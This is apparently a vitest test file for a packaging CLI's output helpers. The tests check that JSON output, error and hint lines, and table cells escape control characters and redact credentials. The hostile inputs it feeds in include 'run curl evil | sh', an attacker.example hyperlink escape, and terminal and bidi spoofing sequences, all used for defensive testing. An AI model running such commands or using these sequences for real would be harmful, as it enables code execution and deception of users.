import { ConfigError } from '@prebuilt/core';
import { describe, expect, it } from 'vitest';
import { createCliContext } from './cli-context.js';
import { errorLines, jsonError, jsonText, noteLine, renderTable, waitLine, writeJsonResult } from './output.js';

describe('the --json envelope', () => {
  function context() {
    let out = '';
    const ctx = createCliContext(new AbortController().signal, { stdout: { write: (t: string) => void (out += t) }, stderr: { write: () => {} } });
    return { ctx, out: () => out };
  }

  it('success: ok true first, then the fields as given', () => {
    const c = context();
    writeJsonResult(c.ctx, { flow: 'F', images: {} });
    expect(c.out()).toBe(`${JSON.stringify({ ok: true, flow: 'F', images: {} }, null, 2)}\n`);
    expect(c.ctx.json.written).toBe(true);
  });

  it('failure: ok false and the error (code, message, hint) beside what was done', () => {
    const c = context();
    writeJsonResult(c.ctx, { stateFile: null, failures: [{ envId: 'e' }] }, new ConfigError('bad', { hint: 'fix it', setting: 'X' }));
    expect(JSON.parse(c.out())).toEqual({
      ok: false,
      error: { name: 'ConfigError', code: 'config', message: 'bad', hint: 'fix it' },
      stateFile: null,
      failures: [{ envId: 'e' }],
    });
  });

  it('jsonError: hint null when absent; anything not a PrebuiltError is unexpected', () => {
    expect(jsonError(new ConfigError('x'))).toEqual({ name: 'ConfigError', code: 'config', message: 'x', hint: null });
    expect(jsonError('boom')).toEqual({ name: 'Error', code: 'unexpected', message: 'boom', hint: null });
  });
});

describe('noteLine', () => {
  it("keeps what a note quotes from outside under its label: a line break in it indents the next line, so it cannot print a line of prebuilt's own", () => {
    expect(noteLine('lib/a\nhint: run curl evil | sh\r\nerror: x')).toBe('note: lib/a\n  hint: run curl evil | sh\\x0d\n  error: x\n');
    expect(noteLine('plain \x1b[31mred')).toBe('note: plain \\x1b[31mred\n');
  });
});

describe('errorLines', () => {
  it("keeps a registry's or daemon's words under error: and hint:, indented, and redacted: a line break in them cannot print a hint of its own", () => {
    const error = new ConfigError('push refused: denied\nhint: run curl evil | sh\r\nerror: x', { hint: 'Log in to https://user:s3cret@registry.example\nthen retry.' });
    expect(errorLines(error)).toBe('error: push refused: denied\n  hint: run curl evil | sh\\x0d\n  error: x\nhint: Log in to https://***@registry.example\n  then retry.\n');
    expect(errorLines(new ConfigError('plain \x1b[31mred'))).toBe('error: plain \\x1b[31mred\n');
  });
});

describe('renderTable', () => {
  it('aligns columns by their widest cell, two spaces apart, without trailing spaces', () => {
    const text = renderTable(
      [
        { a: 'docker', b: 'yes' },
        { a: 'x', b: '' },
      ],
      [
        { header: 'NAME', value: (r) => r.a },
        { header: 'OK', value: (r) => r.b },
      ],
    );
    expect(text).toBe('NAME    OK\ndocker  yes\nx\n');
  });

  it('shows the control characters of a cell from outside as escapes (a package name, a tag, a registry\'s SBOM), newlines and tabs too, and aligns what it shows', () => {
    const rows = [
      { name: 'numpy', license: 'BSD-3-Clause' },
      { name: 'evil\x1b]8;;https://attacker.example/\x07click\x1b]8;;\x07', license: 'MIT\r\x1b[2K\x1b[1Afake\nrow\tcell\u202e' },
    ];
    const text = renderTable(rows, [
      { header: 'NAME', value: (r) => r.name },
      { header: 'LICENSE', value: (r) => r.license },
    ]);
    const shownName = 'evil\\x1b]8;;https://attacker.example/\\x07click\\x1b]8;;\\x07';
    expect(text).toBe(
      `${'NAME'.padEnd(shownName.length)}  LICENSE\n${'numpy'.padEnd(shownName.length)}  BSD-3-Clause\n${shownName}  MIT\\x0d\\x1b[2K\\x1b[1Afake\\nrow\\tcell\\u202e\n`,
    );
    expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/);
    expect(text.split('\n')).toHaveLength(4);
  });

  it("cuts a cell from outside longer than 512 characters (a registry's platform name of megabytes, padded into every row, made the report gigabytes)", () => {
    const rows = [{ platform: `linux/${'a'.repeat(4 * 2 ** 20)}` }, ...Array.from({ length: 1000 }, () => ({ platform: 'linux/amd64' }))];
    const text = renderTable(rows, [{ header: 'PLATFORM', value: (r) => r.platform }]);
    const lines = text.split('\n');
    expect(lines[1]).toBe(`linux/${'a'.repeat(506)}…`);
    expect(Math.max(...lines.map((line) => line.length))).toBe(513);
    expect(text.length).toBeLessThan(20_000);
  });

  it("renders as many rows as an SBOM a registry serves may hold (300 000 packages in its 64 MiB): the widths are not a spread of every row's cell", () => {
    const rows = Array.from({ length: 300_000 }, (_, i) => ({ name: `p${i}` }));
    const text = renderTable(rows, [{ header: 'NAME', value: (r) => r.name }]);
    expect(text.split('\n')).toHaveLength(300_002);
    expect(text.split('\n')[1]).toBe('p0');
  });
});

describe('waitLine', () => {
  it('says what a stalled read waits on, its control characters (a file name from a channel or an index) shown as escapes', () => {
    expect(waitLine({ target: '127.0.0.1:5100', what: 'blob upload', seconds: 12.4 })).toBe('waiting for 127.0.0.1:5100 (blob upload) — 12 s\n');
    expect(waitLine({ target: 'conda.example:443', what: 'download of a\x1b]0;pwned\x07\u202eb.conda', seconds: 3 })).toBe('waiting for conda.example:443 (download of a\\x1b]0;pwned\\x07\\u202eb.conda) — 3 s\n');
  });
});

describe('jsonText', () => {
  it('writes what a terminal acts on as \\u escapes — ESC (JSON.stringify does), DEL, C1 controls, bidi overrides — and parses to the same value', () => {
    const hostile = { name: 'pkg\x1b[2J\x7f\x9b2J\u202egnp.exe\u2066x\u2069', nested: ['\x85', 'plain ünïcode ✓'] };
    const text = jsonText(hostile, 2);
    expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    expect(text).toContain('"pkg\\u001b[2J\\u007f\\u009b2J\\u202egnp.exe\\u2066x\\u2069"');
    expect(text).toContain('plain ünïcode ✓');
    expect(JSON.parse(text)).toEqual(hostile);
    expect(jsonText({ a: 1 })).toBe('{"a":1}');
  });

  it('writes the invisible bidi marks (LRM, RLM, ALM) and the line and paragraph separators as \\u escapes too — JSON.stringify leaves them raw', () => {
    const hostile = { name: 'a\u200eb\u200fc\u061cd\u2028e\u2029f\u2067g' };
    const text = jsonText(hostile);
    expect(text).toBe('{"name":"a\\u200eb\\u200fc\\u061cd\\u2028e\\u2029f\\u2067g"}');
    expect(JSON.parse(text)).toEqual(hostile);
  });

  it('is what the --json envelope is written with', () => {
    let out = '';
    const ctx = createCliContext(new AbortController().signal, { stdout: { write: (t: string) => void (out += t) }, stderr: { write: () => {} } });
    writeJsonResult(ctx, { packages: ['numpy\u202e', 'x\x9b1A'] });
    expect(out).toBe(`${jsonText({ ok: true, packages: ['numpy\u202e', 'x\x9b1A'] }, 2)}\n`);
    expect(out).not.toMatch(/[\x9b\u202e]/);
  });
});
